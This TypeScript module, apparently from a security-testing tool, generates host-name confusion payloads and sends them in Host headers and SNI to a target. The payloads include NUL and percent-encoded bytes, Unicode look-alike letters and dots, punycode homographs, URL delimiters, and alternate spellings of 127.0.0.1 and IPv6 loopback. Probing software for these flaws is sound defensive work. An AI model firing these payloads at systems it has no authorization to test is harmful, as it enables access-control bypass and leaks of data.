import { domainToASCII } from 'node:url';
import type { Attack } from '../attack.ts';
import type { Target } from '../session.ts';

/** Connections at a time. */
const PARALLEL = 25;

interface Spelling {
  readonly id: string;
  readonly title: string;
  readonly reference: string;
  readonly spell: (target: Target) => readonly string[];
}

/** Replaces the first letter that has a twin: U+212A for k, U+017F for s. */
function swapLetter(name: string): string[] {
  const kelvin = name.replace('k', '\u212a');
  const longS = name.replace('s', '\u017f');
  return [kelvin, longS].filter((one) => one !== name);
}

function toFullwidth(name: string): string {
  return [...name]
    .map((letter) => (/[a-z0-9]/.test(letter) ? String.fromCodePoint(letter.codePointAt(0)! + 0xfee0) : letter))
    .join('');
}

const SPELLINGS: readonly Spelling[] = [
  { id: 'nul', title: 'NUL between the bound and the unbound name', reference: 'CVE-2009-2408', spell: ({ bound, unbound }) => [`${bound}\0.${unbound}`, `${bound}\0`, `${unbound}\0.${bound}`] },
  { id: 'percent-nul', title: 'Percent-encoded NUL, dot and slash in the name', reference: 'RFC 3986 section 3.2.2', spell: ({ bound, unbound }) => [`${bound}%00.${unbound}`, bound.replace('.', '%2e'), `${bound}%2f.${unbound}`] },
  { id: 'trailing-dots', title: 'Trailing, doubled and leading dots', reference: 'RFC 1034 section 3.1', spell: ({ bound }) => [`${bound}.`, `${bound}..`, bound.replace('.', '..'), `.${bound}`] },
  { id: 'letter-case', title: 'Other letter case', reference: 'RFC 4343', spell: ({ bound }) => [bound.toUpperCase()] },
  { id: 'twin-letters', title: 'U+212A KELVIN SIGN and U+017F LONG S, which lower-case to ASCII', reference: 'UTS 46', spell: ({ bound }) => swapLetter(bound) },
  { id: 'fullwidth', title: 'Fullwidth letters', reference: 'UTS 46', spell: ({ bound }) => [toFullwidth(bound)] },
  { id: 'unicode-dots', title: 'Ideographic, fullwidth and halfwidth full stops', reference: 'RFC 3490 section 3.1', spell: ({ bound }) => ['\u3002', '\uff0e', '\uff61'].map((dot) => bound.replaceAll('.', dot)) },
  { id: 'ignorables', title: 'Soft hyphen, zero-width space and joiner in the name', reference: 'UTS 46', spell: ({ bound }) => ['\u00ad', '\u200b', '\u200d', '\u2060'].map((one) => `${bound.slice(0, 2)}${one}${bound.slice(2)}`) },
  { id: 'punycode', title: 'A label that looks like the bound one, as punycode; and an A-label of plain ASCII', reference: 'RFC 5891 section 4.2', spell: ({ bound }) => [domainToASCII(bound.replace('e', '\u0435')), `xn--${bound.replace('.', '-.')}`] },
  { id: 'suffix', title: 'The bound name as prefix, suffix or neighbor', reference: 'RFC 6125 section 6.4', spell: ({ bound, unbound }) => [`${bound}.${unbound}`, `x${bound}`, `x.${bound}`, `${unbound}.${bound}`, bound.slice(1)] },
  { id: 'delimiters', title: 'Delimiters of URLs between the names', reference: 'RFC 3986 section 3.2', spell: ({ bound, unbound }) => ['#', '?', '/', '\\', ';', ',', '@', '#@', '\\@', '|'].flatMap((one) => [`${bound}${one}${unbound}`, `${unbound}${one}${bound}`]) },
  { id: 'blanks', title: 'Blanks and controls between the names', reference: 'RFC 9112 section 5', spell: ({ bound, unbound }) => ['\t', ' ', '\v', '\f', '\u00a0', '\u0085'].map((one) => `${bound}${one}${unbound}`) },
  { id: 'ipv4-spellings', title: 'Octal, hexadecimal, short and whole-number IPv4 addresses', reference: 'RFC 3986 section 7.4', spell: () => ['0177.0.0.1', '0x7f.0.0.1', '0x7f000001', '2130706433', '127.1', '017700000001', '127.0.0.1.', '１２７.0.0.1'] },
  { id: 'ipv6-spellings', title: 'IPv6 with a zone, mapped, translated and bracketed', reference: 'RFC 6874', spell: () => ['[fe80::1%25lo]', '[::1%lo]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '[::127.0.0.1]', '[v1.fe80::a]'] },
]; // prettier-ignore

const LEAK = 'the value, to a host that some reader of the name takes for the bound one';

/** The same name to one reader, another to the next. Each is a Host on both connections, a destination and a server name. */
export const HOST_NAME_ATTACKS: readonly Attack[] = SPELLINGS.map(({ id, title, reference, spell }) => ({
  id: `name-${id}`,
  title,
  reference,
  leak: LEAK,
  category: 'host-names',
  run: async (session) => {
    const { unbound } = session.target;
    const jobs = spell(session.target).flatMap((name) => {
      const request = session.request('/', { lines: [`Host: ${name}`] });
      const isServerName = /^[\x21-\x7e]+$/.test(name) && !/^[[0-9]/.test(name);
      return [
        // A gate that judges by Host may take it for the bound one.
        { to: 'unbound' as const, send: [request] },
        { to: 'bound' as const, send: [request] },
        { to: 'unbound' as const, name, sni: session.target.bound, send: [session.request('/')], firstByteMs: 1_200 },
        { to: 'unbound' as const, name, port: session.unboundPort, sni: null, send: [request], firstByteMs: 1_200 },
        ...(isServerName ? [{ to: 'unbound' as const, name: unbound, sni: name, send: [request] }] : []),
      ];
    });
    for (let at = 0; at < jobs.length; at += PARALLEL) {
      await Promise.all(jobs.slice(at, at + PARALLEL).map((job) => session.exchange(job)));
    }
  },
}));
